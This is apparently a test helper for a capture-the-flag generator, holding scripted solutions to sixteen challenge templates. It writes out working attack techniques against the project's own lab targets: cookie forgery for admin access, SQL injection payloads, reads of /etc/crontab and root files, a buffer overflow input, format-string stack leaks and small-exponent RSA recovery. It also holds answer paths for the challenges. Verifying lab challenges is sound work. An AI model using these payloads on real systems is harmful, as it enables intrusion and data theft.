import { createHash } from "node:crypto";
import { inflateRawSync } from "node:zlib";
import { expect } from "vitest";
import type { TemplateKey } from "@/lib/ctf/templates/generate";

/**
 * A player's solution of each shipped template, written from what a player sees: the
 * challenge's description, its file (bytes) and its web target's pages. None of them reads
 * the database or the template's code; each finds the flag the way the template's solution
 * steps say, and checks what it can (a signature recomputed, the readable plaintext).
 */

export const FLAG = /CTF\{[0-9a-f]{24}\}/;

export type Page = { status: number; text: string; headers: Headers };

export type PlayerView = {
  description: string;
  file: Buffer | null;
  /** One request to the target: a page (or a relative URL such as `hop?n=2`), its query, extra cookies. */
  target: (page: string, query?: Record<string, string>, cookies?: Record<string, string>) => Promise<Page>;
};

type Solver = (view: PlayerView) => Promise<string>;

function found(text: string, what: string): string {
  const match = FLAG.exec(text);
  if (!match) throw new Error(`no flag in ${what}: ${text.slice(0, 400)}`);
  return match[0];
}

const fileText = (view: PlayerView) => view.file!.toString("utf8");

/** The value of `name` in a Set-Cookie header list. */
function setCookie(headers: Headers, name: string): string {
  for (const line of headers.getSetCookie()) {
    const [pair] = line.split(";");
    const at = pair.indexOf("=");
    if (pair.slice(0, at) === name) return pair.slice(at + 1);
  }
  throw new Error(`no ${name} cookie set`);
}

// ---------------------------------------------------------------------------------------- web

const cookieJar: Solver = async ({ target }) => {
  const login = await target("login");
  const value = setCookie(login.headers, "jar_session");
  const forgeries: string[] = [];
  // payload.signature: an unkeyed SHA-256 prefix (checked here before relying on it).
  if (value.includes(".")) {
    const [payload, signature] = value.split(".");
    if (createHash("sha256").update(payload).digest("hex").slice(0, 16) === signature) {
      const session = JSON.parse(Buffer.from(payload, "base64url").toString("utf8"));
      const forged = Buffer.from(JSON.stringify({ ...session, role: "admin" })).toString("base64url");
      forgeries.push(`${forged}.${createHash("sha256").update(forged).digest("hex").slice(0, 16)}`);
    }
  }
  // Hex of JSON XORed with one byte: the first byte is `{`.
  if (/^(?:[0-9a-f]{2})+$/.test(value)) {
    const bytes = Buffer.from(value, "hex");
    const key = bytes[0] ^ "{".charCodeAt(0);
    const session = JSON.parse(Buffer.from(bytes.map((byte) => byte ^ key)).toString("utf8"));
    forgeries.push(Buffer.from(Buffer.from(JSON.stringify({ ...session, role: "admin" })).map((byte) => byte ^ key)).toString("hex"));
  }
  // Plain base64: of JSON, or of `key=value` pairs.
  const decoded = Buffer.from(value, "base64").toString("utf8");
  const json = (() => {
    try {
      return JSON.parse(decoded) as Record<string, unknown>;
    } catch {
      return null;
    }
  })();
  if (json) forgeries.push(Buffer.from(JSON.stringify({ ...json, role: "admin" })).toString("base64"));
  if (/^user=[^|]+\|.*role=\w+$/.test(decoded)) forgeries.push(Buffer.from(decoded.replace(/role=\w+/, "role=admin")).toString("base64"));
  for (const forged of forgeries) {
    const admin = await target("admin", {}, { jar_session: forged });
    if (admin.status === 200) return found(admin.text, "the admin page");
  }
  throw new Error(`could not forge ${value}`);
};

const searchParty: Solver = async ({ target }) => {
  const search = async (q: string) => (await target("search", { q })).text;
  expect(await search("'")).toMatch(/Database error/);
  const everything = await search("' OR 1=1 --");
  if (FLAG.test(everything)) return found(everything, "every product");
  // The query has two columns: list the tables, then read the other tables' columns.
  const schema = await search("' UNION SELECT name, sql FROM sqlite_master --");
  for (const [, table, columns] of schema.matchAll(/CREATE TABLE (\w+) \(([^)]*)\)/g)) {
    if (table === "products") continue;
    for (const column of columns.split(",").map((definition) => definition.trim().split(/\s+/)[0])) {
      const rows = await search(`' UNION SELECT ${column}, ${column} FROM ${table} --`);
      if (FLAG.test(rows)) return found(rows, table);
    }
  }
  throw new Error(`no flag behind the search: ${schema}`);
};

const redirectRoulette: Solver = async ({ target }) => {
  const params: URLSearchParams[] = [];
  let url = new URL("start", "http://target/t/");
  for (let hops = 0; hops < 30; hops++) {
    const answer = await target(url.pathname.split("/").pop()!, Object.fromEntries(url.searchParams));
    if (answer.status !== 302) break;
    url = new URL(answer.headers.get("location")!, url);
    params.push(url.searchParams);
  }
  const token = params.map((p) => p.get("token")).find(Boolean);
  if (token) return found(FLAG.test(token) ? token : Buffer.from(token, "base64").toString("utf8"), "the token");
  const parts = params
    .map((p) => p.get("part"))
    .filter((part): part is string => Boolean(part))
    .map((part) => ({ n: Number(part.split("-")[0]), text: part.slice(part.indexOf("-") + 1) }))
    .sort((a, b) => a.n - b.n);
  const joined = parts.map((part) => part.text).join("");
  if (FLAG.test(joined)) return found(joined, "the parts");
  return found(parts.map((part) => Buffer.from(part.text, "hex").toString("utf8")).join(""), "the hex parts");
};

// ------------------------------------------------------------------------------------- crypto

const caesarsDiary: Solver = async (view) => {
  const cipher = fileText(view);
  const digits = /digit/i.test(view.description);
  for (let key = 1; key < 26; key++) {
    const plain = cipher.replace(/[A-Za-z0-9]/g, (char) => {
      const code = char.charCodeAt(0);
      if (code >= 65 && code <= 90) return String.fromCharCode(65 + ((code - 65 + 26 - key) % 26));
      if (code >= 97 && code <= 122) return String.fromCharCode(97 + ((code - 97 + 26 - key) % 26));
      return digits ? String.fromCharCode(48 + ((code - 48 + 10 - (key % 10)) % 10)) : char;
    });
    if (FLAG.test(plain) && /\bthe\b/.test(plain)) return found(plain, `shift ${key}`);
  }
  throw new Error("no shift reads");
};

const decodeBlob = (text: string) => (/^[0-9a-f]+$/.test(text) ? Buffer.from(text, "hex") : Buffer.from(text, "base64"));

const reusedPad: Solver = async (view) => {
  const text = fileText(view);
  const known = Buffer.from(/"([^"]+)"/.exec(text)![1]);
  const c1 = decodeBlob(/^c1 = (\S+)$/m.exec(text)![1]);
  const c2 = decodeBlob(/^c2 = (\S+)$/m.exec(text)![1]);
  const pad = Buffer.from(c1.map((byte, index) => byte ^ known[index]));
  for (let offset = 0; offset + c2.length <= pad.length; offset++) {
    const plain = Buffer.from(c2.map((byte, index) => byte ^ pad[offset + index])).toString("latin1");
    if (FLAG.test(plain)) return found(plain, `offset ${offset}`);
  }
  throw new Error("the pad reads nothing");
};

export function cubeRoot(value: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1);
  while (low < high) {
    const middle = (low + high + 1n) / 2n;
    if (middle ** 3n <= value) low = middle;
    else high = middle - 1n;
  }
  return low;
}

function modInverse(a: bigint, m: bigint): bigint {
  let [oldR, r] = [a % m, m];
  let [oldS, s] = [1n, 0n];
  while (r !== 0n) {
    const q = oldR / r;
    [oldR, r] = [r, oldR - q * r];
    [oldS, s] = [s, oldS - q * s];
  }
  return ((oldS % m) + m) % m;
}

const tinyExponent: Solver = async (view) => {
  const text = fileText(view);
  const values = (name: string) => [...text.matchAll(new RegExp(`^${name}\\d* = (\\S+)$`, "gm"))].map((match) => BigInt(match[1]));
  const [ns, cs] = [values("n"), values("c")];
  let cube: bigint;
  if (ns.length === 1) cube = cs[0];
  else {
    // Chinese remainder theorem: x ≡ c_i (mod n_i) → x = m³.
    const product = ns.reduce((a, b) => a * b, 1n);
    cube = ns.reduce((sum, n, index) => sum + cs[index] * (product / n) * modInverse(product / n, n), 0n) % product;
  }
  const m = cubeRoot(cube);
  expect(m ** 3n).toBe(cube);
  const hex = m.toString(16);
  return found(Buffer.from(hex.length % 2 ? `0${hex}` : hex, "hex").toString("latin1"), "m");
};

// ---------------------------------------------------------------------------------- forensics

const packetWhispers: Solver = async (view) => {
  for (const stream of fileText(view).split(/^===== /m).slice(1)) {
    const [request, response] = stream.split("<<< server");
    if (!/^HTTP\/1\.1 302/m.test(response)) continue;
    const basic = /^Authorization: Basic (\S+)$/m.exec(request);
    const password = basic ? Buffer.from(basic[1], "base64").toString("utf8").split(":").slice(1).join(":") : decodeURIComponent(/password=([^&\s]+)/.exec(request)![1]);
    return found(password, "the successful login");
  }
  throw new Error("no successful login");
};

/** A PNG's chunks (type → data; tEXt ones decoded) and what follows IEND. */
export function readPng(bytes: Buffer): { text: Record<string, string>; trailer: Buffer } {
  expect(bytes.subarray(0, 8).toString("hex")).toBe("89504e470d0a1a0a");
  const text: Record<string, string> = {};
  let at = 8;
  for (;;) {
    const length = bytes.readUInt32BE(at);
    const type = bytes.subarray(at + 4, at + 8).toString("latin1");
    const data = bytes.subarray(at + 8, at + 8 + length);
    at += 12 + length;
    if (type === "tEXt") {
      const nul = data.indexOf(0);
      text[data.subarray(0, nul).toString("latin1")] = data.subarray(nul + 1).toString("latin1");
    }
    if (type === "IEND") return { text, trailer: bytes.subarray(at) };
  }
}

const layers: Solver = async (view) => {
  const { trailer } = readPng(view.file!);
  expect(trailer.length).toBeGreaterThan(0);
  if (trailer.readUInt32LE(0) === 0x04034b50) {
    const method = trailer.readUInt16LE(8);
    const size = trailer.readUInt32LE(18);
    const start = 30 + trailer.readUInt16LE(26) + trailer.readUInt16LE(28);
    const data = trailer.subarray(start, start + size);
    return found((method === 8 ? inflateRawSync(data) : data).toString("utf8"), "the archive");
  }
  const text = trailer.toString("utf8");
  return found(FLAG.test(text) ? text : Buffer.from(text.trim(), "base64").toString("utf8"), "the trailer");
};

// -------------------------------------------------------------------------------------- osint

function coordinate(text: string): number {
  let match = /^(-?[0-9.]+)$/.exec(text.trim());
  if (match) return Number(match[1]);
  match = /^(\d+) deg (\d+)' ([0-9.]+)" ([NSEW])$/.exec(text.trim());
  if (match) return (Number(match[1]) + Number(match[2]) / 60 + Number(match[3]) / 3600) * (/[SW]/.test(match[4]) ? -1 : 1);
  match = /^(\d+),([0-9.]+)([NSEW])$/.exec(text.trim());
  if (match) return (Number(match[1]) + Number(match[2]) / 60) * (/[SW]/.test(match[3]) ? -1 : 1);
  throw new Error(`not a coordinate: ${text}`);
}

const holidaySnap: Solver = async (view) => {
  const { text } = readPng(view.file!);
  let lat: number;
  let lon: number;
  if (text.GPS) [lat, lon] = text.GPS.split(",").map(coordinate);
  else if (text.GPSLatitude) [lat, lon] = [coordinate(text.GPSLatitude), coordinate(text.GPSLongitude)];
  else {
    const xmp = text["XML:com.adobe.xmp"];
    [lat, lon] = [coordinate(/GPSLatitude="([^"]+)"/.exec(xmp)![1]), coordinate(/GPSLongitude="([^"]+)"/.exec(xmp)![1])];
  }
  const nearby = await view.target("nearby", { lat: lat.toFixed(7), lon: lon.toFixed(7) });
  expect(nearby.status).toBe(200);
  // Listed by distance: the first café is across the street.
  const cafe = nearby.text.split("\n").find((line) => line.includes("| café |"));
  if (!cafe) throw new Error(`no café near the photo: ${nearby.text}`);
  return found((await view.target("place", { id: cafe.split(" | ")[0] })).text, "the café's page");
};

const oldHandle: Solver = async ({ target }) => {
  // Crawl the site like a person would: follow every link, and look up every username seen.
  const seen = new Set<string>();
  const queue: { page: string; query: Record<string, string> }[] = [{ page: "index", query: {} }];
  const texts: string[] = [];
  while (queue.length && seen.size < 80) {
    const next = queue.shift()!;
    const key = `${next.page}?${new URLSearchParams(next.query)}`;
    if (seen.has(key)) continue;
    seen.add(key);
    const page = await target(next.page, next.query);
    if (page.status !== 200) continue;
    texts.push(page.text);
    for (const [, linked, query] of page.text.matchAll(/\.\/(\w+)\?(\S+)/g)) queue.push({ page: linked, query: Object.fromEntries(new URLSearchParams(query)) });
    for (const [, name] of page.text.matchAll(/(?:@|code\.example\/|Author: )([\w-]+)/g)) queue.push({ page: "user", query: { name } });
  }
  const all = texts.join("\n");
  if (FLAG.test(all)) return found(all, "the site");
  for (const [, token] of all.matchAll(/DEPLOY_TOKEN=([A-Za-z0-9+/=]+)$/gm)) {
    const decoded = Buffer.from(token, "base64").toString("utf8");
    if (FLAG.test(decoded)) return found(decoded, "a token");
  }
  throw new Error(`nothing in ${seen.size} pages`);
};

// ------------------------------------------------------------------------------------- offsec

const weakService: Solver = async ({ target }) => {
  const banner = (await target("index")).text;
  const serial = /Serial number: (\S+)/.exec(banner)![1];
  const manual = (await target("manual")).text;
  const user = /one account, "([^"]+)"/.exec(manual)![1];
  let password: string;
  if (/last four digits/.test(manual)) password = `admin${serial.slice(-4)}`;
  else if (/backwards/.test(manual)) password = [...serial].reverse().join("");
  else if (/SHA-256/.test(manual)) password = createHash("sha256").update(serial).digest("hex").slice(0, 8);
  else password = /the password is "([^"]+)"/.exec(manual)![1];
  const login = await target("login", { user, password });
  expect(login.status).toBe(200);
  return found(login.text, "the admin page");
};

const cronJob: Solver = async ({ target }) => {
  const read = async (path: string) => (await target("files", { path })).text;
  expect((await target("files", { path: "/root/.token" })).status).toBe(403);
  const crontabs = [await read("/etc/crontab")];
  for (const [, name] of (await read("/etc/cron.d")).matchAll(/ (\S+)$/gm)) crontabs.push(await read(`/etc/cron.d/${name}`));
  for (const [, script, redirect] of crontabs.join("\n").matchAll(/\broot\s+(\/\S+\.sh)(?:\s+>>\s+(\S+))?/g)) {
    const log = redirect ?? /exec >> (\S+)/.exec(await read(script))?.[1];
    if (!log) continue;
    const token = /X-Token: (\S+)/.exec(await read(log))?.[1] ?? "";
    return found(FLAG.test(token) ? token : Buffer.from(token, "hex").toString("utf8"), "the trace");
  }
  throw new Error("no root job with a readable trace");
};

// ------------------------------------------------------------------------ binary exploitation

const littleEndian = (value: number) => [value & 0xff, (value >>> 8) & 0xff, (value >>> 16) & 0xff, (value >>> 24) & 0xff];

const overflow101: Solver = async (view) => {
  const source = fileText(view);
  const size = Number(/char name\[(\d+)\]/.exec(source)![1]);
  const magic = /req\.is_admin == (0x[0-9a-f]{8})/.exec(source)?.[1];
  const bytes = Array<number>(size).fill(0x41);
  if (/uint32_t guard/.test(source)) bytes.push(...littleEndian(Number(/guard = (0x[0-9a-f]{8})/.exec((await view.target("index")).text)![1])));
  bytes.push(...(magic ? littleEndian(Number(magic)) : [0x42, 0x42, 0x42, 0x42]));
  const answer = await view.target("run", { input: String.fromCharCode(...bytes) });
  return found(answer.text, "the service's answer");
};

const formatFiasco: Solver = async (view) => {
  const longest = Number(/char buf\[(\d+)\]/.exec(fileText(view))![1]) - 1;
  const words: bigint[] = [];
  for (let position = 1; position <= 60; ) {
    let format = "";
    const asked: number[] = [];
    while (position <= 60 && format.length + `%${position}$p|`.length <= longest) {
      format += `%${position}$p|`;
      asked.push(position++);
    }
    const printed = (await view.target("echo", { msg: format })).text.trim().split("|");
    asked.forEach((at, index) => (words[at] = printed[index] === "(nil)" ? 0n : BigInt(printed[index])));
  }
  const bytes = Buffer.concat(
    words.slice(1).map((word) => {
      const eight = Buffer.alloc(8);
      eight.writeBigUInt64LE(word);
      return eight;
    }),
  );
  return found(bytes.toString("latin1"), "the leaked stack");
};

// ------------------------------------------------------------------------ reverse engineering

const keygen: Solver = async (view) => {
  const source = fileText(view);
  const constant = (name: string) => Number(new RegExp(`^${name} = (\\d+)$`, "m").exec(source)![1]);
  const list = (name: string) => new RegExp(`^${name} = \\[([^\\]]*)\\]$`, "m").exec(source)![1].split(",").map(Number);
  const expected = list("EXPECTED");
  let codes: number[];
  if (/PERM/.test(source)) {
    const [inverse, perm] = [Number(modInverse(BigInt(constant("A")), 257n)), list("PERM")];
    codes = Array(expected.length);
    let prev = constant("SEED");
    expected.forEach((v, i) => {
      codes[perm[i]] = ((v * inverse) % 257) ^ prev;
      prev = v & 0xff;
    });
  } else if (/% 257/.test(source)) {
    const [inverse, b] = [Number(modInverse(BigInt(constant("A")), 257n)), constant("B")];
    codes = expected.map((v) => (((v - b + 257) % 257) * inverse) % 257);
  } else if (/\+ i\) % 256/.test(source)) codes = expected.map((v, i) => ((v - i + 256) % 256) ^ constant("K"));
  else codes = expected.map((v) => v ^ constant("K"));
  return found(String.fromCharCode(...codes), "the inverted key");
};

const packed: Solver = async (view) => {
  let code = fileText(view).replace(/^\/\/.*\n/, "").trim();
  for (let layer = 0; layer < 10 && !FLAG.test(code) && !/const codes/.test(code); layer++) {
    let match: RegExpExecArray | null;
    if ((match = /^eval\(atob\("([A-Za-z0-9+/=]+)"\)\);$/.exec(code))) code = Buffer.from(match[1], "base64").toString("utf8");
    else if ((match = /^eval\(String\.fromCharCode\(([\d,]+)\)\);$/.exec(code))) code = String.fromCharCode(...match[1].split(",").map(Number));
    else if ((match = /^eval\(\(\(h, k\) => .*\)\("([0-9a-f]+)", (\d+)\)\);$/.exec(code))) {
      const key = Number(match[2]);
      code = Buffer.from(Buffer.from(match[1], "hex").map((byte) => byte ^ key)).toString("utf8");
    } else if ((match = /^eval\((".*")\.split\(""\)\.reverse\(\)\.join\(""\)\);$/.exec(code))) code = [...(JSON.parse(match[1]) as string)].reverse().join("");
    else throw new Error(`unknown layer: ${code.slice(0, 120)}`);
    code = code.trim();
  }
  const codes = /const codes = \[([\d, ]+)\]/.exec(code);
  return found(codes ? String.fromCharCode(...codes[1].split(",").map(Number)) : code, "the unpacked checker");
};

export const solvers: Record<TemplateKey, Solver> = {
  "cookie-jar": cookieJar,
  "search-party": searchParty,
  "redirect-roulette": redirectRoulette,
  "caesars-diary": caesarsDiary,
  "reused-pad": reusedPad,
  "tiny-exponent": tinyExponent,
  "packet-whispers": packetWhispers,
  layers,
  "holiday-snap": holidaySnap,
  "old-handle": oldHandle,
  "weak-service": weakService,
  "cron-job": cronJob,
  "overflow-101": overflow101,
  "format-fiasco": formatFiasco,
  keygen,
  packed,
};
